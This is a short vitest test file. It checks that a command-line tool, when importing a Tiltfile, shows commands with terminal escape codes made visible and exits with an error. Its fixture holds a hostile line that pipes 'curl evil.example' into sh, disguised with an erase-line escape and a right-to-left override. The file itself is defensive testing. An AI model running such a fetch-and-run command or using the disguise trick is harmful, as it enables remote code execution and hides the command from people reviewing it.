import { afterEach, beforeEach, expect, it } from "vitest";
import { createProject, type Project } from "../testing/command-line.ts";

let project: Project;
beforeEach(async () => {
  project = await createProject({});
});
afterEach(() => project.end());

it("shows a command that a load would run as it is written, and lets no terminal hide a part of it", async () => {
  await project.put("Tiltfile", "local('curl evil.example | sh #\u001b[2K\u202e echo all is well')\n");
  const { code, stderr } = await project.run(["import", "Tiltfile"]);
  expect(stderr).toContain("evil.example | sh #\\u{1b}[2K\\u{202e} echo all is well");
  expect(stderr).not.toContain("\u001b");
  expect(code).toBe(2);
});
